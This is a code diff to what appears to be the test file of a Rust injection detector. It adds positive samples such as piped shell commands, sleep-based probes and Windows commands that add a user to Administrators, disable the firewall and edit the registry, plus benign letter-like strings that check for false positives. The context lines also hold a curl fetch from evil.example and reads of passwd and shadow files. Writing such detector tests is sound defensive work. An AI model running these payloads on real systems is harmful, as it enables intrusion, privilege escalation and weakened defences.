@@ -634,6 +634,10 @@ const POSITIVE: &[(u32, &[&str])] = &[
         ],
     ),
     (7012, &["admin*)((|userPassword=*)", "*()|&'", "*))"]),
+    (
+        4002,
+        &["|/bin/ls -al", "|usr/bin/id", "& sleep 5", "sleep 10"],
+    ),
     (3002, &["etc/passwd", "../etc/shadow"]),
     (
         3005,
@@ -662,6 +666,10 @@ const POSITIVE: &[(u32, &[&str])] = &[
             "ls -l /",
             "curl https://evil.example/x.txt",
             "ping -i 30 127.0.0.1",
+            "net view",
+            "net localgroup Administrators hacker /ADD",
+            "netsh firewall set opmode disable",
+            "reg add \"HKLM\\System\" /v x /f",
         ],
     ),
     (
@@ -862,6 +870,13 @@ const HONEST: &[&str] = &[
     "Please bring your ID; we check at the door",
     "dir. Jansen (director)",
     "Net view of the garden",
+    "Please sleep 8 hours",
+    // Line breaks separate shell commands; in a letter they separate lines that may start
+    // with words that are also commands.
+    "Dear all,\nwho can help on Saturday?\nMore info below.\nLast year we had 40 guests.\nID cards are not needed.\nSleep well,\nAnneke",
+    "Hi,\r\n\r\nping me when you know more.\r\nW. Jansen\r\nwhich day suits you?\r\n\r\nThanks",
+    "Lijst:\n- cat food\n- echo of the choir\n- find a venue\ntime: 10:00\nhead count: 12",
+    "Mon & Tue: sleep in",
     "ping me when you are ready",
     "cat lovers welcome",
     "The PHP info session ${name}",
